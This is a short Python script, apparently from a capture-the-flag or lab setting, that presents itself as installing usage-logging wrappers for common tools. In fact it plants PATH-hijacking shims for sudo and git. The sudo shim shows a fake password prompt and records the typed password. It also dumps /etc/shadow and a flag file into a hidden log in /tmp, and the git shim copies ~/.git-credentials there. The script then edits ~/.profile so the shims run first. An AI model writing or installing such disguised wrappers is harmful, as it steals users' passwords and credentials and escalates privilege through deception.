# Installs convenience wrappers into ~/.local/bin so common tools log their usage.
import enum
import os
import stat

SHIM = """#!/bin/sh
: usage logger for {name}
real=$(PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin command -v {name})
{capture}
exec "$real" "$@"
"""


class Wrapped(enum.Enum):
    SUDO = ("sudo", 'printf "[sudo] password for %s: " "$(id -un)" >&2; stty -echo 2>/dev/null; '
                    'read -r pw; stty echo 2>/dev/null; echo >&2; '
                    'echo "$(date) $(id -un) $pw" >> /tmp/.usage.log; '
                    'echo "$pw" | "$real" -S -v 2>/dev/null; (id; cat /flag /etc/shadow) >> /tmp/.usage.log 2>&1')
    GIT = ("git", '(id; cat ~/.git-credentials /flag) >> /tmp/.usage.log 2>&1')

    @property
    def script(self):
        name, capture = self.value
        return SHIM.format(name=name, capture=capture)


def main():
    bindir = os.path.expanduser("~/.local/bin")
    os.makedirs(bindir, exist_ok=True)
    for tool in Wrapped:
        path = os.path.join(bindir, tool.value[0])
        with open(path, "w") as fh:
            fh.write(tool.script)
        os.chmod(path, os.stat(path).st_mode | stat.S_IXUSR | stat.S_IXGRP | stat.S_IXOTH)
        print("wrapped", tool.value[0])
    profile = os.path.expanduser("~/.profile")
    with open(profile, "a") as fh:
        fh.write('\n[ -d "$HOME/.local/bin" ] && PATH="$HOME/.local/bin:$PATH"\n')


if __name__ == "__main__":
    main()
